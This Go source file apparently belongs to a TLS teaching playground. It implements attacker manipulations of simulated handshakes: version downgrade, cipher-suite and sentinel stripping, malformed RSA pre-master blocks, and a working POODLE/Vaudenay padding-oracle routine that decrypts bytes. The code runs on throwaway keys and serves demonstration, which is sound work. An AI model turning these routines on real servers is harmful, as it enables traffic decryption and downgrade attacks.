package playground

import (
	"bytes"
	"crypto/rsa"
	"crypto/x509"
	"errors"
	"fmt"
	"math/big"
	"slices"

	"github.com/vitrine-tls/vitrine/iana"
	"github.com/vitrine-tls/vitrine/observe"
	"github.com/vitrine-tls/vitrine/record"
	"github.com/vitrine-tls/vitrine/suite"
	"github.com/vitrine-tls/vitrine/trace"
)

// Acts that take more than a click: each is what an attacker computes from what is on the wire.

// WithoutTLS13 returns the act that takes TLS 1.3 out of the client's offer: supported_versions
// becomes an extension that nobody knows.
func (r *Result) WithoutTLS13() (Act, error) {
	for n := 0; ; n++ {
		p, ok := r.Find(iana.Client, "client_hello", "extension_type", n)
		if !ok {
			return Act{}, errors.New("playground: the client offers no supported_versions")
		}
		b := r.sent(p)
		if b[0] == 0 && iana.ExtensionType(b[1]) == iana.ExtSupportedVersions {
			return Act{Kind: Set, Side: p.Side, Record: p.Record, Offset: p.Offset,
				Data: trace.Hex{0xFA, 0xCE}}, nil
		}
	}
}

// WithoutSuite returns the act that replaces the n-th suite of the client's offer, from 0, by one
// that nobody knows.
func (r *Result) WithoutSuite(n int) (Act, error) {
	p, ok := r.Find(iana.Client, "client_hello", "cipher_suite", n)
	if !ok {
		return Act{}, fmt.Errorf("playground: the client offers no suite %d", n)
	}
	return Act{Kind: Set, Side: p.Side, Record: p.Record, Offset: p.Offset,
		Data: trace.Hex{0xFA, 0xCE}}, nil
}

// WithoutSentinel returns the act that overwrites the end of the server's random, where a server
// that speaks TLS 1.3 says that it was not asked for it. See RFC 8446 §4.1.3.
func (r *Result) WithoutSentinel() (Act, error) {
	p, ok := r.Find(iana.Server, "server_hello", "random", 0)
	if !ok {
		return Act{}, errors.New("playground: there is no server_hello")
	}
	return Act{Kind: Set, Side: p.Side, Record: p.Record, Offset: p.Offset + p.Len - 8,
		Data: bytes.Repeat([]byte{0x5A}, 8)}, nil
}

func (r *Result) sent(p Place) []byte {
	for i := range r.Records {
		if of := &r.Records[i]; of.Side == p.Side && of.Number == p.Record && of.Sent != nil {
			return of.Sent[p.Offset : p.Offset+p.Len]
		}
	}
	return nil
}

// BadPreMaster is a way in which the block in a ClientKeyExchange can be wrong.
type BadPreMaster string

// The three mistakes.
const (
	BadBlock   BadPreMaster = "block"   // it does not begin with 00 02
	BadLength  BadPreMaster = "length"  // the secret has 47 bytes
	BadVersion BadPreMaster = "version" // the secret begins with another version
)

// BadPreMasters returns all of them.
func BadPreMasters() []BadPreMaster { return []BadPreMaster{BadBlock, BadLength, BadVersion} }

// BadKeyExchange returns the act that puts another block, encrypted with the server's public key,
// in the place of the client's pre_master_secret. See RFC 5246 §7.4.7.1.
func (r *Result) BadKeyExchange(wrong BadPreMaster) (Act, error) {
	p, ok := r.Find(iana.Client, "client_key_exchange", "encrypted_pre_master_secret", 1)
	if !ok {
		return Act{}, errors.New("playground: no pre_master_secret is sent")
	}
	key, err := r.serverKey()
	if err != nil {
		return Act{}, err
	}
	public, ok := key.Public().(*rsa.PublicKey)
	if !ok || public.Size() != p.Len {
		return Act{}, errors.New("playground: the server's key is not RSA")
	}
	block := bytes.Repeat([]byte{0xA5}, p.Len)
	block[0], block[1], block[p.Len-preMasterLen-1] = 0, 2, 0
	block[p.Len-preMasterLen], block[p.Len-preMasterLen+1] = 3, 3
	switch wrong {
	case BadBlock:
		block[1] = 1
	case BadLength:
		block[p.Len-preMasterLen-1], block[p.Len-preMasterLen] = 0xA5, 0
	case BadVersion:
		block[p.Len-preMasterLen+1] = 9
	default:
		return Act{}, fmt.Errorf("playground: got %q, expected one of %q", wrong, BadPreMasters())
	}
	m := new(big.Int).SetBytes(block)
	m.Exp(m, big.NewInt(int64(public.E)), public.N)
	return Act{Kind: Set, Side: p.Side, Record: p.Record, Offset: p.Offset,
		Data: m.FillBytes(make([]byte, p.Len))}, nil
}

// serverKey returns the private key of the server's certificate, which is public.
func (r *Result) serverKey() (*rsa.PrivateKey, error) {
	for _, e := range r.Entries {
		if k, ok := e.Event.(*trace.ThrowawayKey); ok && k.From == iana.Server {
			key, err := x509.ParsePKCS8PrivateKey(k.Private)
			if err != nil {
				return nil, err
			}
			if key, ok := key.(*rsa.PrivateKey); ok {
				return key, nil
			}
		}
	}
	return nil, errors.New("playground: the server's key is not RSA")
}

// Guess returns the acts that ask the server whether the last byte of a block of the client's first
// data is guess. The block, from 1, is copied to the end of the record, where its last byte counts
// the padding, and the byte before it in the stream is chosen so that it becomes 0 if the guess is
// right: padding of no bytes is right padding. This is Vaudenay's attack of 2002, and POODLE's.
func (r *Result) Guess(block int, guess byte) ([]Act, error) {
	of := r.Carrying(iana.Client, iana.RecordApplicationData.String())
	n := r.blockSize()
	if of == nil || n == 0 {
		return nil, errors.New("playground: the client's data is not protected with CBC")
	}
	c := of.Sent[record.HeaderLen:] // the IV, and the blocks
	last := len(c)/n - 1
	if block < 1 || block >= last-1 {
		return nil, fmt.Errorf("playground: got block %d, expected 1 to %d", block, last-2)
	}
	at := func(i int) int { return record.HeaderLen + i*n }
	return []Act{
		{Kind: Set, Side: iana.Client, Record: of.Number, Offset: at(last),
			Data: slices.Clone(c[block*n : (block+1)*n])},
		{Kind: Set, Side: iana.Client, Record: of.Number, Offset: at(last) - 1,
			Data: trace.Hex{guess ^ c[block*n-1]}},
	}, nil
}

// blockSize returns the length of a block of CBC, whose MAC is encrypted, or 0.
func (r *Result) blockSize() int {
	for _, e := range r.Entries {
		if a, ok := e.Event.(*trace.Agreed); ok && !a.EncryptThenMAC {
			if s := suite.Readable(a.Suite); s != nil && s.Cipher.CBC() {
				return s.Cipher.BlockSize
			}
		}
	}
	return 0
}

// DecryptByte finds the last byte of a block of the client's first data, from what the server
// answers to guesses alone. ok is false if all its answers are alike. In the world each guess is
// another connection, in which the client sends the same data.
func DecryptByte(s Setup, block int) (b byte, tries int, ok bool, err error) {
	r, err := Run(s, nil)
	if err != nil {
		return 0, 0, false, err
	}
	guesses := map[string][]byte{} // by the answer to them
	for guess := range 256 {
		acts, err := r.Guess(block, byte(guess))
		if err != nil {
			return 0, tries, false, err
		}
		asked, err := Run(s, acts)
		if err != nil {
			return 0, tries, false, err
		}
		answer := asked.Ends[iana.Server].Alert
		guesses[answer] = append(guesses[answer], byte(guess))
		if tries++; tries < 3 || len(guesses) != 2 {
			continue
		}
		for _, alike := range guesses {
			if len(alike) == 1 {
				return alike[0], tries, true, nil
			}
		}
	}
	return 0, tries, false, nil
}

// Opened is what somebody reads who has recorded a connection and gets the private key of the
// server's certificate later.
type Opened struct {
	Read   [2]string // by the side that sent it
	Reason string    // why nothing was read
}

// Later returns what a recording of the run tells to whoever gets the server's key. It is read by
// package observe, from the bytes that arrived.
func (r *Result) Later() (Opened, error) {
	var o Opened
	var source observe.Source
	if key, err := r.serverKey(); err == nil {
		source = observe.RSAKey("the server's key", key)
	}
	c := observe.New(source, nil)
	c.Data = func(from iana.Side, plain []byte) { o.Read[from] += string(plain) }
	for _, of := range r.Records {
		if err := c.Feed(of.Side, of.Got); err != nil {
			o.Reason = err.Error()
			break
		}
	}
	c.Close()
	if why := c.Report().Reason; why != nil && o.Reason == "" {
		o.Reason = why.String()
	}
	return o, nil
}
